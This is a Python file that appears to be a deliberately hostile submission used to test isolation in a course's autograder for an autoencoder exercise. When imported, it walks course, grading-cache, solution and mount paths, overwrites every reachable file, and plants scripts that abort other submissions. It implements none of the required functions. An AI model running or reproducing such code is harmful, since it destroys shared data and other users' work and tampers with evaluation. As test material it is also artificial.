"""Hostile, nothing but an attack: tries to overwrite the cached reference records, the other submissions'
folders and the course's code, at paths read from ae and /proc/self/mountinfo, and implements nothing. Nothing
it can reach is shared: its classmates' grades do not change, and neither does the course."""
import os
from pathlib import Path

import ae

course = Path(ae.__file__).resolve().parent.parent
targets = [course / ".cache", course / "ae", course / "solutions", Path("/work/main/.cache/grading"),
           Path("/work/main/ae"), Path("/tmp")]
try:
    for line in open("/proc/self/mountinfo"):
        root = Path(line.split()[3])
        targets += [root, root.parent, root.parent / ".cache" / "grading", root.parent.parent]
except OSError:
    pass
for target in targets:
    for top, folders, files in os.walk(target, onerror=lambda error: None):
        for name in files:
            try:
                with open(os.path.join(top, name), "w") as f:
                    f.write("{}")
            except OSError:
                pass
        for name in folders:
            try:
                with open(os.path.join(top, name, "latent_size.py"), "w") as f:
                    f.write("raise SystemExit('overwritten by a classmate')\n")
            except OSError:
                pass


def build_autoencoder(latent_size, seed=0):
    raise NotImplementedError


def train_and_evaluate(latent_size, train_set, test_set, seed=0):
    raise NotImplementedError


def sweep(train_set, test_set, grid=(2, 4, 8, 16, 32), seed=0):
    raise NotImplementedError


def choose_latent_size(results, target=0.035):
    raise NotImplementedError
